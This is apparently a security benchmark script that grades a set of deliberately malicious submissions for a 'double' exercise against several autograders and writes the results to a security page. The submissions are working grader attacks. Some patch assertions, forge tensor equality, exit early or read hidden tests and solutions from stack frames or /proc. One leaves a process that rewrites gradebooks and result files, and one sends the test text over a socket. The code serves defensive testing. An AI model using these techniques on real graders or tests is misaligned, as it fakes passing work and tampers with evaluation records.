"""Write docs/security.md: which attacks earn points from this kit and from three other graders.

One function, `double`, with two hidden tests of a point each, stated as each grader's documentation advises.
otter-grader and PrairieLearn's grader run in virtual environments of their own under the temporary folder.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import tempfile
import textwrap
import time
import zipfile
from collections.abc import Mapping
from importlib.metadata import version
from pathlib import Path

import nbformat
import prairielearn
from environments import installed_version, make_environment
from security_page import Column, User, page
from stock_nbgrader import StockCourse, grade_cell, solution_cell

from autograder.grading.jobs import Job
from autograder.grading.pool import LocalPool
from autograder.lesson.kit import Kit

_LESSON = "01_double"
_FULL_POINTS = 2.0
_AFTERWARDS_SECONDS = 12  # that a process which outlives its grader is given
_RIGHT = "def double(x):\n    return x + x\n"
_WRONG = "\n\ndef double(x):\n    return x * 0\n"
_LINE = """\
x = torch.tensor([1.0, -2.0, 3.5])
expected = torch.tensor([2.0, -4.0, 7.0])
torch.testing.assert_close(double(x), expected)
"""
_SQUARE = """\
x = torch.randn(3, 2)
torch.testing.assert_close(double(x), x + x)
"""
_KIT = {
    "grading.yml": f"""\
limits: {{seconds: 2, memory_mb: 256, import_seconds: 5}}
devices: [cpu]
lessons:
  - name: {_LESSON}
    title: Double
    functions: [{{name: double, points: {_FULL_POINTS}}}]
""",
    f"solutions/{_LESSON}/double.py": _RIGHT,
    f"tests/lessons/{_LESSON}/test_double.py": '''\
import torch

from autograder.judge import graded


@graded("double")
def test_line(compare, draw):
    """Each entry of a vector is doubled."""
    compare.call(draw.normal(3))


@graded("double")
def test_square(compare, draw):
    """Each entry of a matrix is doubled."""
    compare.call(draw.normal(3, 2))
''',
}
_CALLERS = """\
import ast, inspect, sys, textwrap

def callers():
    frame = sys._getframe(1)
    while frame is not None:
        yield frame
        frame = frame.f_back
"""
_TEST_FILES = """\
import glob, json, os

def test_files():
    tops = {os.getcwd()}
    for link in glob.glob("/proc/[0-9]*/cwd"):
        try:
            tops.add(os.readlink(link))
        except OSError:
            pass
    for top in tops - {"/"}:
        for form in ("/*.py", "/tests/*.py", "/tests/lessons/*/*.py", "/source/*/*.ipynb"):
            for path in glob.glob(top + form):
                try:
                    text = open(path).read()
                except OSError:
                    continue
                if path.endswith(".ipynb"):
                    cells = json.loads(text)["cells"]
                    text = chr(10).join("".join(cell["source"]) for cell in cells)
                if "double" in text:
                    yield text
"""
ATTACKS: dict[str, tuple[str, str]] = {
    "right": ("solves the exercise (no attack)", _RIGHT),
    "wrong": ("solves nothing and attacks nothing", _WRONG),
    "compare": (
        "replaces `torch.testing.assert_close`",
        "import torch.testing\ntorch.testing.assert_close = lambda *args, **kwargs: None" + _WRONG,
    ),
    "liar": (
        "returns a tensor whose operators say that it equals everything",
        """\
import torch

class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("isclose", "eq", "ne", "allclose"):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})

def double(x):
    return torch.zeros_like(x).as_subclass(Liar)
""",
    ),
    "exit": ("ends its process with status 0", "import os\n\ndef double(x):\n    os._exit(0)\n"),
    "system_exit": ("raises `SystemExit(0)`", "def double(x):\n    raise SystemExit(0)\n"),
    "mutate": (
        "zeroes its input, which the test reads next",
        "def double(x):\n    x.zero_()\n    return x.clone()\n",
    ),
    "frames": (
        "reads `expected` in the frames of its callers",
        _CALLERS
        + """
def double(x):
    for frame in callers():
        for names in (frame.f_locals, frame.f_globals):
            if "expected" in names:
                return names["expected"]
    return x * 0
""",
    ),
    "source": (
        "reads the text of the test in its caller's frame and evaluates what is expected",
        _CALLERS
        + """
def double(x):
    for frame in callers():
        try:
            text = inspect.getsource(frame.f_code)
            tree = ast.parse(textwrap.dedent(text))
        except (OSError, TypeError, SyntaxError):
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func).endswith("assert_close"):
                return eval(ast.unparse(node.args[1]), frame.f_globals, frame.f_locals)
    return x * 0
""",
    ),
    "disk": (
        "finds the file of the tests on the disk and evaluates what is expected",
        _TEST_FILES
        + """
import ast, torch

def expectations(text, x):
    for node in ast.walk(ast.parse(text)):
        body = getattr(node, "body", None)
        names = {"torch": torch, "x": x}
        for statement in body if isinstance(body, list) else []:
            if isinstance(statement, ast.Assign) and ast.unparse(statement.targets[0]) == "expected":
                exec(ast.unparse(statement), names)
            call = getattr(statement, "value", None)
            if isinstance(call, ast.Call) and call.args and ast.unparse(call.args[0]) == "double(x)":
                yield eval(ast.unparse(call.args[1]), names)

def double(x):
    for text in test_files():
        for expected in expectations(text, x):
            if expected.shape == x.shape:
                return expected
    return x * 0
""",
    ),
    "transformer": (
        "has IPython empty each cell that follows",
        "try:\n    get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"
        "except NameError:\n    pass\n" + _WRONG,
    ),
    "traceback": (
        "silences IPython's `showtraceback`",
        "try:\n    get_ipython().showtraceback = lambda *args, **kwargs: None\n"
        "    get_ipython()._showtraceback = lambda *args, **kwargs: None\n"
        "except NameError:\n    pass\n" + _WRONG,
    ),
    "solution": (
        "finds the solution on the disk, through the working directories of other processes",
        """\
import glob, os

def double(x):
    tops = {os.getcwd()}
    for link in glob.glob("/proc/[0-9]*/cwd"):
        try:
            tops.add(os.readlink(link))
        except OSError:
            pass
    for top in tops - {"/"}:
        for path in glob.glob(top + "/source/01_double/*.ipynb") + glob.glob(top + "/solutions/*/double.py"):
            text = open(path).read()
            if "return x + x" in text:
                return x + x
    return x * 0
""",
    ),
    "outlive": (
        "leaves a process behind that writes marks once the grader is done",
        f"""\
import glob, json, os, sqlite3, time

def work():
    end = time.time() + {_AFTERWARDS_SECONDS - 2}
    while time.time() < end:
        time.sleep(0.5)
        for link in glob.glob("/proc/[0-9]*/cwd"):
            try:
                top = os.readlink(link)
                words = open(link[:-3] + "cmdline").read().split(chr(0))
                book = os.path.join(top, "gradebook.db")
                if os.path.exists(book):
                    with sqlite3.connect(book, timeout=0.2) as database:
                        database.execute(
                            "UPDATE grade SET manual_score = 1 WHERE notebook_id IN (SELECT n.id FROM "
                            "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
                            "WHERE a.student_id = 'outlive')"
                        )
                if "-o" in words:
                    TARGETS.add(os.path.join(words[words.index("-o") + 1], "results.json"))
            except (OSError, sqlite3.Error):
                continue
        for path in TARGETS:
            if os.path.exists(path):
                report = json.load(open(path))
                for test in report["tests"]:
                    for marks in ("score", "points"):
                        if "max_" + marks in test:
                            test[marks] = test["max_" + marks]
                json.dump(report, open(path, "w"))

TARGETS = {{os.path.join(os.getcwd(), "autograder_results.json")}}

def double(x):
    if os.fork() == 0:
        os.setsid()
        try:
            work()
        finally:
            os._exit(0)
    return x * 0
""",
    ),
    "network": (
        "sends the text of the hidden tests to another machine",
        _CALLERS
        + _TEST_FILES
        + """
import socket

def texts():
    for frame in callers():
        try:
            yield inspect.getsource(frame.f_code)
        except (OSError, TypeError):
            continue
    yield from test_files()

def double(x):
    for text in texts():
        with socket.create_connection(("127.0.0.1", PORT), 1) as channel:
            channel.sendall(text.encode())
        if "assert_" + "close(" in text:  # not this line itself
            break
    return x * 0
""",
    ),
}


class Listener:
    """Where the attack over the network sends the tests."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0), backlog=100)
        self._socket.settimeout(0.2)
        self.port = self._socket.getsockname()[1]

    def heard(self) -> bool:
        """Whether a hidden test has come since the last time."""
        text = b""
        while True:
            try:
                with self._socket.accept()[0] as channel:
                    while piece := channel.recv(2**16):
                        text += piece
            except TimeoutError:
                return b"assert_close(double(x)" in text or b"compare.call(" in text


def grade_with_kit(root: Path, sources: Mapping[str, str]) -> dict[str, float]:
    for name, text in _KIT.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    with LocalPool(Kit(root), [_LESSON], ["cpu"], 1) as pool:
        scores = {name: pool.grade(Job(_LESSON, 1, text.encode())).score for name, text in sources.items()}
        time.sleep(_AFTERWARDS_SECONDS)
        return scores


def grade_with_nbgrader(root: Path, kit: Kit, sources: Mapping[str, str]) -> dict[str, float]:
    root.mkdir()
    cells = [solution_cell(_RIGHT)]
    for name, test in (("line", _LINE), ("square", _SQUARE)):
        hidden = f"import torch\n### BEGIN HIDDEN TESTS\n{test}### END HIDDEN TESTS"
        cells.append(grade_cell(hidden, name, _FULL_POINTS / 2))
    course = StockCourse(root, kit.registry.lesson(_LESSON), cells)
    course.submit(sources)
    course.autograde(strict=False)
    time.sleep(_AFTERWARDS_SECONDS)
    return course.scores()


def grade_with_otter(root: Path, sources: Mapping[str, str]) -> tuple[str, dict[str, float]]:
    """Return the version and the scores. Raise `CalledProcessError` where Otter can't be installed."""
    python = make_environment(root / "environment", "otter-grader[grading]")
    tests = "".join(
        f"\n\n@test_case(points={_FULL_POINTS / 2:g}, hidden=True)\ndef test_{name}(double):\n"
        + textwrap.indent(f"import torch\n{text}", "    ")
        for name, text in (("line", _LINE), ("square", _SQUARE))
    )
    with zipfile.ZipFile(root / "autograder.zip", "w") as archive:
        archive.writestr("otter_config.json", json.dumps({"lang": "python"}))
        head = 'from otter.test_files import test_case\n\nOK_FORMAT = False\nname = "double"\npoints = None\n'
        archive.writestr("tests/double.py", head + tests)
    command = [python.parent / "otter", "run", "-a", root / "autograder.zip"]
    scores = {}
    for name, source in sources.items():
        folder = root / name
        folder.mkdir()
        notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
        notebook.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
        nbformat.write(notebook, folder / "double.ipynb")
        # Not into a pipe: a process that a submission leaves behind would keep it open.
        subprocess.run(
            [*command, "-o", folder, folder / "double.ipynb"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=300,
            cwd=folder,
        )
        if name == "outlive":
            time.sleep(_AFTERWARDS_SECONDS)
        results = folder / "results.json"
        found = json.loads(results.read_text())["tests"] if results.exists() else []
        scores[name] = float(sum(test.get("score") or 0 for test in found))
    return installed_version(python, "otter-grader"), scores


def grade_with_prairielearn(
    root: Path, sources: Mapping[str, str], listener: Listener
) -> tuple[list[Column], User]:
    """Grade each submission twice, as it is and with the grader's guard lifted.

    Returns:
        A column for each way, and what the other user who runs student code is good for.

    Raises:
        CalledProcessError: where the grader can't be installed.
    """
    python = make_environment(root / "environment", *prairielearn.PACKAGES)
    title = f"{prairielearn.PACKAGE} {installed_version(python, prairielearn.PACKAGE)}"
    tests = {"line": _LINE, "square": _SQUARE}
    worker = prairielearn.available_worker(python)

    def scores(folder: str, submissions: Mapping[str, str], user: str | None) -> dict[str, float]:
        question = prairielearn.PrairieLearn(root / folder, python, tests, _FULL_POINTS / 2)
        for name, source in submissions.items():
            question.grade(name, source, user)
        time.sleep(_AFTERWARDS_SECONDS)
        return {name: question.score(name) for name in submissions}

    lifted = {name: prairielearn.UNGUARD + source for name, source in sources.items()}
    columns = [
        Column(title, scores("guarded", sources, worker), listener.heard()),
        Column(f"{title}, guard lifted", scores("lifted", lifted, worker), listener.heard()),
    ]
    same_user = scores("same_user", {"outlive": lifted["outlive"]}, None)
    return columns, User(worker, same_user["outlive"])


def main() -> None:
    listener = Listener()
    sources = {name: text.replace("PORT", str(listener.port)) for name, (_, text) in ATTACKS.items()}
    root = Path(tempfile.mkdtemp(prefix="bench-security-"))
    root.chmod(0o711)  # for the user who runs student code for PrairieLearn's grader
    user = None
    try:
        columns = [Column("this kit", grade_with_kit(root / "kit", sources), listener.heard())]
        scores = grade_with_nbgrader(root / "nbgrader", Kit(root / "kit"), sources)
        columns.append(Column(f"nbgrader {version('nbgrader')}", scores, listener.heard()))
        (root / "otter").mkdir()
        try:
            otter, scores = grade_with_otter(root / "otter", sources)
            columns.append(Column(f"otter-grader {otter}", scores, listener.heard()))
        except subprocess.CalledProcessError as error:
            columns.append(Column("otter-grader", {}, problem=str(error)))
        (root / "prairielearn").mkdir()
        try:
            both, user = grade_with_prairielearn(root / "prairielearn", sources, listener)
            columns += both
        except subprocess.CalledProcessError as error:
            columns.append(Column(prairielearn.PACKAGE, {}, problem=str(error)))
    finally:
        shutil.rmtree(root, ignore_errors=True)
    text = page({name: about for name, (about, _) in ATTACKS.items()}, columns, _FULL_POINTS, user)
    target = Path(__file__).resolve().parents[1] / "docs" / "security.md"
    target.parent.mkdir(exist_ok=True)
    target.write_text(text)
    print(text)


if __name__ == "__main__":
    main()
